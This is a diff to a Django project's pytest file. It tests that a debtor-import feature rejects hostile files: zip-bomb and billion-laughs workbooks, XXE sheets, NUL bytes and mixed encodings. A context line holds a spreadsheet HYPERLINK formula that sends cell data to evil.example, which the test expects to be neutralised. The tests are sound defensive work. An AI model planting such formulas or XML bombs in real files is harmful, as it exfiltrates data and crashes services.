@@ -185,3 +185,38 @@ def test_the_rejected_rows_csv_never_carries_a_formula(portfolio, tmp_path):
     assert rows[1][2] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Ver\")" and rows[1][4] == "31/02/2026"
     assert rows[2][5] == "'@SUM(1)"
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+HOSTILE = {
+    "bomb.xlsx": lambda p: workbook(p, xl__sharedStrings_xml=shared_strings(1_000_000)),
+    "laughs.xlsx": lambda p: workbook(p, xl__sharedStrings_xml=BILLION_LAUGHS),
+    "xxe.xlsx": lambda p: workbook(p, xl__worksheets__sheet1_xml=XXE),
+    "broken.xlsx": lambda p: workbook(p, xl__workbook_xml=b"<workbook><sheets>"),
+    "nan.xlsx": lambda p: workbook(p, xl__worksheets__sheet1_xml=_number_sheet(b"NaN")),
+    "nul.csv": lambda p: p.write_bytes(b"code,name\n" + b"C1,Ana\n" * 10_000 + b"C2,A\x00B\n") and p,
+    "mixed.csv": lambda p: p.write_bytes("code,name\nC1,José\n".encode() + "C2,José\n".encode("latin-1")) and p,
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_files_give_one_line_on_the_command_line_and_a_clear_failure_on_the_web(portfolio, tmp_path, name):
+    from io import StringIO
+
+    from django.core.management import call_command
+
+    from recaudo.imports.models import ImportJob
+    from recaudo.imports.tasks import run_import_job
+
+    path = tmp_path / name
+    HOSTILE[name](path)
+    out, err = StringIO(), StringIO()
+    with pytest.raises(SystemExit) as exit_status:
+        call_command("import_data", "debtors", str(path), "--portfolio", "pyme", stdout=out, stderr=err)
+    assert exit_status.value.code == 2 and out.getvalue() == ""
+    lines = err.getvalue().splitlines()
+    assert len(lines) == 1 and lines[0].startswith(f"error: {name}") and "Traceback" not in lines[0]
+    job = ImportJob.objects.create(portfolio=portfolio, kind="debtors", filename=name, stored_path=str(path))
+    run_import_job.enqueue(job.pk)
+    job.refresh_from_db()
+    assert job.status == "failed" and job.message == lines[0].removeprefix("error: ")
+    assert "internal error" not in job.message and not Debtor.objects.exists()
